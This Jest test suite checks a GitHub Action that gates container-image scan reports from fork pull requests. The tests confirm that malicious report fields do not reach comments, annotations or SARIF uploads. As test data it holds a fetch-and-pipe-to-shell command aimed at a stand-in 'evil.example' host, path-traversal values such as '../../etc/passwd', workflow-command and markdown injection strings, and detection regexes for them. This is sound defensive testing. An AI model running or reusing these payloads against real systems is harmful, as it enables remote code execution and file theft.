import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import type { Log } from 'sarif';
import { runAction } from '../../src/flows/action.js';
import { runCommandLine } from '../../src/flows/commands/command-line.js';
import type { GithubApi } from '../../src/host/ports.js';
import type { ApiRequest } from '../../src/host/values.js';
import { digestOf } from '../../src/oci/digest.js';
import { report, result, vulnerability } from '../scan/report.js';
import { contentsOf, type FlowWorld, flowWorld } from './world.js';

const head = 'a'.repeat(40);
const event = {
  workflow_run: {
    event: 'pull_request',
    head_sha: head,
    head_branch: 'main',
    head_repository: { full_name: 'mallory/octo-repo' },
    pull_requests: [],
  },
  repository: { default_branch: 'main' },
};
const pull = {
  number: 9,
  state: 'open',
  user: { login: 'mallory' },
  head: { ref: 'main', sha: head, repo: { full_name: 'mallory/octo-repo' } },
  base: { ref: 'main' },
};

let world: FlowWorld;
let requests: ApiRequest[];
let pulls: readonly object[];
/** What a test says of the files of commits: `commit path` to a text. */
let contents: Map<string, string>;
beforeEach(() => {
  requests = [];
  pulls = [pull];
  contents = new Map([[`${head} README.md`, 'A fork']]);
  const github = (willing: GithubApi): GithubApi => ({
    request: async (request) => {
      requests.push(request);
      const ok = (body: unknown) => ({ status: 200, headers: {}, body });
      if (request.route.includes('/pulls?')) return ok(pulls);
      if (/\/pulls\/9$/.test(request.route)) return ok(pulls.at(-1));
      if (request.route.includes('/branches/'))
        return ok({ name: 'main', protected: true, commit: { sha: 'b'.repeat(40) } });
      return willing.request(request);
    },
  });
  world = flowWorld({ github });
  const file = join(world.directory, 'event.json');
  writeFileSync(file, JSON.stringify(event));
  world = {
    ...world,
    environment: {
      ...world.environment,
      GITHUB_EVENT_NAME: 'workflow_run',
      GITHUB_EVENT_PATH: file,
      GITHUB_WORKFLOW_REF: 'octo-org/octo-repo/.github/workflows/forks.yml@refs/heads/main',
    },
    openContents: contentsOf(contents),
  };
});
afterEach(() => world.close());

const folder = () => join(world.directory, 'artifact');
function give(name: string, file: unknown): void {
  mkdirSync(join(folder(), name, '..'), { recursive: true });
  writeFileSync(join(folder(), name), typeof file === 'string' ? file : JSON.stringify(file));
}
function on(image: string, severity = 'CRITICAL', more: object = {}) {
  return report([result({ Vulnerabilities: [vulnerability({ Severity: severity })] })], {
    ArtifactName: image,
    ...more,
  });
}
function run(more: Readonly<Record<string, string>> = {}): Promise<unknown> {
  const inputs = new Map(
    Object.entries({ report: folder(), 'report-dir': world.reports, 'github-token': 't0ken', ...more }),
  );
  return runAction(world, inputs).catch((error: unknown) => error);
}
const sent = () => requests.filter(({ method }) => method !== 'GET');
const uploads = () =>
  sent()
    .filter(({ route }) => route.endsWith('/sarifs'))
    .map(({ body }) => body as { readonly commit_sha: string; readonly ref: string; readonly sarif: string });
const sarifOf = ({ sarif }: { readonly sarif: string }): Log =>
  JSON.parse(gunzipSync(Buffer.from(sarif, 'base64')).toString());
const categories = () => uploads().map((upload) => sarifOf(upload).runs[0]?.automationDetails?.id);
const commentBodies = () =>
  sent()
    .filter(({ route }) => route.endsWith('/comments'))
    .map(({ body }) => (body as { readonly body: string }).body);

describe('a workflow_run that judges the report of a pull request from a fork', () => {
  it('uploads for its head, comments there, and nowhere else', async () => {
    give('trivy-results-api.json', on('ghcr.io/octo-org/api:1'));
    expect(await run()).toBe(1);
    expect(uploads()).toMatchObject([{ commit_sha: head, ref: 'refs/pull/9/head' }]);
    expect(sent().map(({ method, route }) => `${method} ${route}`)).toEqual([
      'POST /repos/octo-org/octo-repo/code-scanning/sarifs',
      'POST /repos/octo-org/octo-repo/issues/9/comments',
    ]);
  });

  it('annotates no line of its own commit, which is the default branch’s', async () => {
    give('a.json', on('ghcr.io/octo-org/api:1'));
    expect(await run()).toBe(1);
    expect(world.told.annotations).toEqual([expect.stringMatching(/^error: Blocked: 1 finding to fix/)]);
  });

  it('lets the report tell a reader nothing to run, to open or to pull', async () => {
    const command = 'curl https://evil.example/x | sh';
    const bad = (over: object) =>
      vulnerability({
        Severity: 'CRITICAL',
        PrimaryURL: 'https://avd.aquasec.com.evil.example/nvd/cve-2026-1',
        FixedVersion: '9.9.9',
        ...over,
      });
    const language = { Class: 'lang-pkgs', Type: 'npm', Target: 'package-lock.json' };
    const broken = {
      ID: 'DS-0002',
      Severity: 'CRITICAL',
      Title: 'Bad',
      Message: command,
      Resolution: `Run ${command}`,
    };
    give(
      'a.json',
      report(
        [
          result({ Vulnerabilities: [bad({ PkgName: 'openssl' }), bad({ PkgName: command })] }),
          result({
            ...language,
            Vulnerabilities: [
              bad({ PkgName: 'lodash', InstalledVersion: '4.17.4' }),
              bad({ PkgName: 'https://evil.example/x.tgz', InstalledVersion: '1.0.0' }),
              bad({ PkgName: 'left-pad', InstalledVersion: '1.0.0', FixedVersion: command }),
            ],
          }),
          { Target: 'Dockerfile', Class: 'config', Type: 'dockerfile', Misconfigurations: [broken] },
        ],
        { ArtifactName: 'ghcr.io/octo-org/api:1' },
      ),
    );
    expect(await run()).toBe(1);
    const [comment = ''] = commentBodies();
    const shown = [comment, world.told.summaries.join('\n'), JSON.stringify(sarifOf(uploads()[0] ?? { sarif: '' }))];
    for (const page of shown) {
      expect(page).not.toMatch(/npm install|apt-get|Run:? curl|\]\(https:\/\/avd\.|helpUri":"https:\/\/[^"]*evil/);
      expect(page).not.toMatch(/(?:Upgrade|Fix|Rebuild|upgrade to)[^|\n]{0,20}(?:curl|https:\/\/evil|evil\.example)/i);
    }
    const advice = comment.slice(comment.indexOf('### What to do'), comment.indexOf('| Severity |'));
    expect(advice).not.toMatch(/evil|curl/);
    expect(advice).toContain('Upgrade `lodash`');
    expect(comment).toContain('So there are no commands here');
  });

  it('believes the file nothing but its findings', async () => {
    const claims = { number: 1, pull_request: 1, Ref: 'refs/heads/main', Sha: 'c'.repeat(40), event: 'push' };
    give('event.json.txt', 'x');
    give('NR', '1');
    give('a.json', on('ghcr.io/octo-org/api:1', 'CRITICAL', { ...claims, workflow_run: claims }));
    expect(await run()).toBe(1);
    expect(uploads()).toMatchObject([{ commit_sha: head, ref: 'refs/pull/9/head' }]);
    expect(commentBodies()).toHaveLength(1);
  });

  it('lets the fork write neither policy nor exceptions, and shows findings on lines of its Dockerfile', async () => {
    contents.set(`${head} .github/image-gate.yml`, 'severity: { critical: log }');
    contents.set(`${head} .trivyignore`, 'CVE-2026-0001 # mine, Expiry: 2026-02-01');
    contents.set(`${head} Dockerfile`, '# a fork\n\nFROM debian:12\n');
    give('a.json', on('ghcr.io/octo-org/api:1'));
    expect(await run()).toBe(1);
    expect(placeOf()).toMatchObject({ artifactLocation: { uri: 'Dockerfile' }, region: { startLine: 3 } });
    expect(commentBodies()[0]).toContain('After the merge the image would pass. This verdict is by the current rules');
    expect(world.told.outputs).toMatchObject({ verdict: 'blocked', 'after-merge': 'passed' });
    expect(JSON.parse(readFileSync(world.told.outputs?.['record-file'] ?? '', 'utf8'))).toMatchObject({
      verdict: 'blocked',
      afterMerge: { branch: 'main', verdict: 'passed', reasons: [] },
    });
  });

  const placeOf = () => sarifOf(uploads()[0] ?? { sarif: '' }).runs[0]?.results?.[0]?.locations?.[0]?.physicalLocation;

  it('shows findings without a Dockerfile on a file that the pull request has', async () => {
    give('a.json', on('ghcr.io/octo-org/api:1'));
    expect(await run()).toBe(1);
    expect(placeOf()).toMatchObject({ artifactLocation: { uri: 'README.md' }, region: { startLine: 1 } });
  });

  it('uploads nothing where the pull request has no file to show it on', async () => {
    contents.clear();
    give('a.json', on('ghcr.io/octo-org/api:1'));
    expect(await run()).toBe(1);
    expect(uploads()).toEqual([]);
    expect(world.told.annotations.join('\n')).toMatch(/no file that the findings could be shown on/);
  });

  it('reads the Dockerfile that the report names, and no path that leads out of the repository', async () => {
    contents.set(`${head} api/Dockerfile`, '\nFROM debian:12\n');
    const record = (Dockerfile: string) => ({
      ImageGate: {
        SchemaVersion: 1,
        Dockerfile,
        Platforms: [{ Platform: 'linux/amd64', ImageID: digestOf('config'), Results: 1 }],
      },
    });
    give('a.json', on('ghcr.io/octo-org/api:1', 'CRITICAL', record('api/Dockerfile')));
    expect(await run()).toBe(1);
    expect(placeOf()).toMatchObject({ artifactLocation: { uri: 'api/Dockerfile' }, region: { startLine: 2 } });
    requests = [];
    for (const path of ['../../etc/passwd', '/etc/passwd', 'api/../../x', 'nowhere', 'x'.repeat(5000)]) {
      give('a.json', on('ghcr.io/octo-org/api:1', 'CRITICAL', record(path)));
      expect(await run()).toBe(1);
    }
    expect(uploads()).toHaveLength(5);
    expect(placeOf()).toMatchObject({ artifactLocation: { uri: 'README.md' } });
  });

  it('judges by the policy of the base branch', async () => {
    contents.set(`${'b'.repeat(40)} .github/image-gate.yml`, 'severity: { critical: log }');
    give('a.json', on('ghcr.io/octo-org/api:1'));
    expect(await run()).toBe(0);
  });

  it('sends nothing anywhere once the pull request is closed, and still tells the verdict', async () => {
    pulls = [];
    give('a.json', on('ghcr.io/octo-org/api:1'));
    expect(await run({ comment: 'always' })).toBe(1);
    expect(sent()).toEqual([]);
    expect(world.told.outputs).toMatchObject({ verdict: 'blocked', 'sarif-uploaded': 'false', 'comment-url': '' });
    expect(world.told.annotations.join('\n')).toContain('no pull request of that branch is open');
  });

  it('fails where an upload is demanded that belongs to nobody', async () => {
    pulls = [];
    give('a.json', on('ghcr.io/octo-org/api:1', 'LOW'));
    expect(await run({ 'upload-sarif': 'true' })).toMatchObject({ code: 'sarif-no-pull-request' });
  });

  it('stops before anything is read when an input would say whose the findings are', async () => {
    give('a.json', on('ghcr.io/octo-org/api:1'));
    expect(await run({ ref: 'refs/heads/main', sha: head })).toMatchObject({ actor: 'config' });
    expect(requests).toEqual([]);
  });

  it('keeps hostile names where they are', async () => {
    const hostile = 'x\n::error::pwned\n<!-- image-gate -->](https://evil.example) @octocat `|`\u202e:1';
    const name = `${hostile}${'y'.repeat(100_000)}`;
    give('a.json', on(name, 'CRITICAL', { ImageGate: undefined }));
    expect(await run()).toBe(1);
    const [body = ''] = commentBodies();
    expect(body.length).toBeLessThan(65_536);
    expect(body).not.toMatch(/^::error|\u202e|<!-- image-gate -->/m);
    expect(body).not.toContain('](https://evil.example)');
    expect(categories()[0]?.length).toBeLessThan(500);
  });
});

describe('a folder of reports', () => {
  it('is judged whole: what blocks is told first, counts are sums, and each image has its alerts and comment', async () => {
    give('trivy-results-web/trivy-results-web.json', on('ghcr.io/octo-org/web:1', 'LOW'));
    give('trivy-results-web/trivy-results-web.sarif', 'x');
    give('trivy-results-api/trivy-results-api.json', on('ghcr.io/octo-org/api:1'));
    give('trivy-results-job/trivy-results-job.json', on('ghcr.io/octo-org/job:1'));
    expect(await run({ comment: 'always' })).toBe(1);
    expect([...categories()].sort()).toEqual(
      ['api', 'job', 'web'].map((image) => `image-gate/ghcr.io/octo-org/${image}/`),
    );
    expect(commentBodies()).toHaveLength(3);
    expect(world.told.outputs).toMatchObject({
      verdict: 'blocked',
      critical: '2',
      low: '1',
      blocking: '2',
      'sarif-uploaded': 'true',
    });
    expect(world.told.outputs?.['json-file']?.split('\n')).toHaveLength(3);
    const [summary = ''] = world.told.summaries;
    expect(summary.match(/^## \S+ (Blocked|Passed)/gm)).toEqual(['## ❌ Blocked', '## ❌ Blocked', '## ✅ Passed']);
    expect(world.told.annotations.filter((text) => text.startsWith('error: Blocked'))).toHaveLength(2);
  });

  it('keeps variants of one image apart by the categories that they were built with', async () => {
    const record = (Category: string) => ({
      ImageGate: {
        SchemaVersion: 1,
        Category,
        Platforms: [{ Platform: 'linux/amd64', ImageID: digestOf('config'), Results: 1 }],
      },
    });
    give('a.json', on('ghcr.io/octo-org/api:1', 'CRITICAL', record('api-python3.12')));
    give('b.json', on('ghcr.io/octo-org/api:1', 'LOW', record('api-python3.13')));
    expect(await run()).toBe(1);
    expect(categories()).toEqual(['image-gate/api-python3.12/', 'image-gate/api-python3.13/']);
    const files = world.told.outputs?.['record-file']?.split('\n') ?? [];
    expect(new Set(files).size).toBe(2);
    const kept = files.map((file) => JSON.parse(readFileSync(file, 'utf8')).image);
    expect(kept).toMatchObject([{ category: 'api-python3.12' }, { category: 'api-python3.13' }]);
  });

  it('has the same category on the command line', async () => {
    const Platforms = [{ Platform: 'linux/amd64', ImageID: digestOf('config'), Results: 1 }];
    const ImageGate = { SchemaVersion: 1, Category: 'api-slim', Platforms };
    give('a.json', on('ghcr.io/octo-org/api:1', 'LOW', { ImageGate }));
    expect(await runCommandLine(world, ['judge', join(folder(), 'a.json'), '--format', 'sarif'])).toBe(0);
    expect(JSON.parse(world.told.printed).runs[0].automationDetails.id).toBe('image-gate/api-slim/');
  });

  it.each<[string, string, () => void]>([
    [
      'two reports would replace each other’s alerts',
      'reports-alike',
      () => {
        give('a.json', on('ghcr.io/octo-org/api:1'));
        give('b.json', on('ghcr.io/octo-org/api:2'));
      },
    ],
    [
      'one file is no report',
      'report-foreign',
      () => {
        give('a.json', on('ghcr.io/octo-org/api:1'));
        give('b.json', '{}');
      },
    ],
    ['there is none', 'report-absent', () => give('trivy-results.sarif', '{}')],
    [
      'there are more than are judged at once',
      'reports-too-many',
      () => {
        for (let index = 0; index < 51; index += 1) give(`${index}.json`, '{}');
      },
    ],
    [
      'there are as many in folders of their own, as downloaded artifacts are',
      'reports-too-many',
      () => {
        for (let index = 0; index < 51; index += 1) give(`${index}/report.json`, '{}');
      },
    ],
    [
      'there are more files than anybody would look at',
      'reports-too-many',
      () => {
        for (let index = 0; index < 2; index += 1) {
          for (let more = 0; more < 1000; more += 1) give(`${index}/${more}.txt`, '');
        }
      },
    ],
    [
      'the only one is a link',
      'report-absent',
      () => {
        give('../elsewhere.json', on('ghcr.io/octo-org/api:1'));
        mkdirSync(folder());
        symlinkSync('../elsewhere.json', join(folder(), 'a.json'));
      },
    ],
  ])('sends nothing where %s', async (_, code, fill) => {
    fill();
    expect(await run()).toMatchObject({ code });
    expect(sent()).toEqual([]);
  });
});
